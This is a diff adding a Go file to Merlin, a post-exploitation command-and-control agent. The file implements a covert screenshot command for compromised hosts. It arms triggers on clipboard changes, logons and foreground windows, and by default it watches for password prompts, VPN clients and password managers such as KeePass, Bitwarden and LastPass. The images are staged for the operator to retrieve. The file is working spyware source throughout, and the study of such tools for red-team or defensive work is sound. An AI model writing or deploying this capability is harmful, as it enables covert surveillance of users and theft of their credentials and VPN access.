@@ -0,0 +1,251 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+const (
+	// defaultScreenshotInterval is how often an armed trigger is checked when an interval is not provided
+	defaultScreenshotInterval = 2
+	// screenshotCooldown is the least time between two screenshots from the same trigger
+	screenshotCooldown = 10 * time.Second
+	// maxTriggeredScreenshots is how many screenshots a trigger takes before it disarms itself
+	maxTriggeredScreenshots = 50
+)
+
+// screenshotWindowPatterns are the window titles a window trigger watches for when none are provided
+var screenshotWindowPatterns = []string{
+	"password", "sign in", "log in", "login", "credential", "vpn", "anyconnect", "globalprotect", "forticlient",
+	"keepass", "1password", "bitwarden", "lastpass", "remote desktop",
+}
+
+// Screenshot captures the desktop now, or arms a trigger that captures it when a foreground window title matches a
+// pattern, the clipboard changes, or a user logs on, so screenshots are taken when they are relevant instead of by
+// polling. Patterns are case-insensitive substrings: window titles default to password, VPN, and password manager
+// windows, clipboard patterns match the copied text, and logon patterns match the user name. A screenshot taken now
+// is staged and returned as the job's file transfer when it fits in one chunk, otherwise its parts are retrieved with
+// staging download, while triggered screenshots are staged and their staging IDs reported on check-in
+// screenshot [now]
+// screenshot arm <window|clipboard|logon> [interval seconds] [pattern...]
+// screenshot list
+// screenshot stop <id>
+func Screenshot(cmd jobs.Command, report Reporter) (results jobs.Results, transfer *jobs.FileTransfer) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Screenshot() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		cmd.Args = []string{"now"}
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "now":
+		image, err := captureScreen()
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error taking a screenshot: %s", err)
+			return
+		}
+		name := fmt.Sprintf("screenshot-%s.png", time.Now().UTC().Format("20060102T150405Z"))
+		id, err := staging.Add(name, image)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error staging the screenshot: %s", err)
+			return
+		}
+		results.Stdout, transfer = stageTransfer(name, id, image, defaultChunkMB)
+	case "arm":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the screenshot arm command requires a window, clipboard, or logon trigger"
+			return
+		}
+		trigger := strings.ToLower(cmd.Args[1])
+		if trigger != "window" && trigger != "clipboard" && trigger != "logon" {
+			results.Stderr = fmt.Sprintf("%s is not a valid screenshot trigger, use window, clipboard, or logon", cmd.Args[1])
+			return
+		}
+		interval := defaultScreenshotInterval
+		patterns := cmd.Args[2:]
+		if len(patterns) > 0 {
+			if n, err := strconv.Atoi(patterns[0]); err == nil {
+				if n < 1 {
+					results.Stderr = fmt.Sprintf("%s is not a valid interval in seconds", patterns[0])
+					return
+				}
+				interval, patterns = n, patterns[1:]
+			}
+		}
+		if trigger == "window" && len(patterns) == 0 {
+			patterns = screenshotWindowPatterns
+		}
+		for i := range patterns {
+			patterns[i] = strings.ToLower(patterns[i])
+		}
+
+		// Check the trigger and the capture once so a host without a desktop session is reported with the job
+		if _, err := captureScreen(); err != nil {
+			results.Stderr = fmt.Sprintf("there was an error taking a screenshot: %s", err)
+			return
+		}
+		var sessions []logonSession
+		var err error
+		switch trigger {
+		case "window":
+			_, err = foregroundWindow()
+		case "clipboard":
+			_, err = clipboardText()
+		case "logon":
+			sessions, err = logonSessions()
+		}
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error checking the %s trigger: %s", trigger, err)
+			return
+		}
+
+		description := fmt.Sprintf("%s every %ds", trigger, interval)
+		if len(patterns) > 0 {
+			description += " matching " + strings.Join(patterns, ", ")
+		}
+		m, err := startMonitor("screenshot", description, report, func(m *monitor, stop <-chan struct{}) error {
+			return runScreenshotTrigger(m, trigger, patterns, sessions, time.Duration(interval)*time.Second, stop)
+		})
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Armed screenshot %s on %s, screenshots are staged and reported on check-in", m.ID, description)
+	case "list":
+		results.Stdout = listMonitors("screenshot")
+	case "stop", "disarm":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the screenshot stop command"
+			return
+		}
+		if err := stopMonitor("screenshot", cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped screenshot %s", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown screenshot command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// runScreenshotTrigger polls the trigger and stages a screenshot each time it fires, at most once per cooldown, until
+// it is stopped or has taken the maximum number of screenshots
+func runScreenshotTrigger(m *monitor, trigger string, patterns []string, sessions []logonSession, interval time.Duration, stop <-chan struct{}) error {
+	matches := func(value string) bool {
+		if len(patterns) == 0 {
+			return true
+		}
+		value = strings.ToLower(value)
+		for _, pattern := range patterns {
+			if strings.Contains(value, pattern) {
+				return true
+			}
+		}
+		return false
+	}
+	previous := make(map[string]bool)
+	for _, session := range sessions {
+		previous[session.key()] = true
+	}
+	var lastWindow, lastClipboard string
+	if trigger == "clipboard" {
+		lastClipboard, _ = clipboardText()
+	}
+
+	var taken int
+	var last time.Time
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	for {
+		select {
+		case <-stop:
+			return nil
+		case <-ticker.C:
+		}
+
+		var reason string
+		switch trigger {
+		case "window":
+			title, err := foregroundWindow()
+			if err != nil || title == lastWindow {
+				continue
+			}
+			lastWindow = title
+			if matches(title) {
+				reason = fmt.Sprintf("window %s", title)
+			}
+		case "clipboard":
+			text, err := clipboardText()
+			if err != nil || text == lastClipboard {
+				continue
+			}
+			lastClipboard = text
+			if matches(text) {
+				reason = fmt.Sprintf("clipboard changed (%d characters)", len(text))
+			}
+		case "logon":
+			current, err := logonSessions()
+			if err != nil {
+				continue
+			}
+			seen := make(map[string]bool)
+			for _, session := range current {
+				seen[session.key()] = true
+				if !previous[session.key()] && matches(session.User) && reason == "" {
+					reason = fmt.Sprintf("logon %s", session)
+				}
+			}
+			previous = seen
+		}
+		if reason == "" || time.Since(last) < screenshotCooldown {
+			continue
+		}
+		last = time.Now()
+
+		image, err := captureScreen()
+		if err != nil {
+			m.event("%s but there was an error taking a screenshot: %s", reason, err)
+			continue
+		}
+		id, err := staging.Add(fmt.Sprintf("screenshot-%s-%s.png", m.ID, last.UTC().Format("20060102T150405Z")), image)
+		if err != nil {
+			m.event("%s but there was an error staging the screenshot: %s", reason, err)
+			continue
+		}
+		taken++
+		m.event("%s, staged a %d byte screenshot as %s", reason, len(image), id)
+		if taken >= maxTriggeredScreenshots {
+			m.event("disarmed after %d screenshots", taken)
+			return nil
+		}
+	}
+}